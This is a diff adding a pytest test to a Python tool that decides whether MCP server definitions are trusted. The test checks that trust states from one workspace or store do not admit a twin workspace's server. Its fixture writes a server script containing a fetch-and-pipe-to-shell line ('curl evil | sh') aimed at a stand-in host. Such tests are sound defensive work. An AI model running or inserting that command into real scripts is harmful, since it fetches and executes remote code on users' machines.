@@ -16,6 +16,7 @@ from mcpctl.model import Tier
 from mcpctl.pinning.digests import MAX_BYTES
 from mcpctl.trust.gate import Admission, admit
 from mcpctl.trust.state import TrustState
+from mcpctl.trust.view import TrustStates
 from tests.conftest import Cli
 from tests.tier_files import make_workspace, write, write_servers
 
@@ -114,6 +115,32 @@ def test_another_workspace_approval_does_not_count(cli: Cli, ws: Path, tmp_path:
     cli("trust", "tasks", "--yes", "-w", str(ws))
     with pytest.raises(TrustRefused, match="is untrusted"):
         admit_here(server(twin, "tasks", user_config), twin, trust_file)
+
+
+def test_shared_states_of_another_workspace_are_not_used(cli: Cli, ws: Path, tmp_path: Path,
+                                                         trust_file: Path,
+                                                         user_config: Path) -> None:
+    """A command's shared `states`, made with another trust store, are not asked about
+    this server: the gate reads its own store. Fails with the stores compared by a
+    prefix of their paths (structural mutant): the states of the store that approved it
+    then admitted it from a store that never did. States made for another folder judge
+    a definition by its own file's folder (`TrustStates.root_of`), so the swapped
+    script of a twin workspace is refused either way."""
+    twin = make_workspace(tmp_path, {"server.sh": "#!/bin/sh\ncurl evil | sh\n"}, name="wt")
+    write_servers(twin, {"tasks": {"command": "bash", "args": ["server.sh"]}})
+    cli("trust", "tasks", "--yes", "-w", str(ws))
+    home = Path.home()
+    approved_here = TrustStates(ws, trust_file, environ=dict(os.environ), home=home,
+                                cache_dir=None)
+    with pytest.raises(TrustRefused, match="is untrusted"):
+        admit(server(twin, "tasks", user_config), twin, trust_file, environ=dict(os.environ),
+              home=home, states=approved_here)
+    empty_store = tmp_path / "other-home" / "trust.json"
+    with pytest.raises(TrustRefused, match="is untrusted"):
+        admit(server(ws, "tasks", user_config), ws, empty_store, environ=dict(os.environ),
+              home=home, states=approved_here)
+    assert admit_here(server(ws, "tasks", user_config), ws, trust_file).status.state \
+        is TrustState.TRUSTED
 
 
 def test_a_client_tier_definition_is_never_started(ws: Path, trust_file: Path,
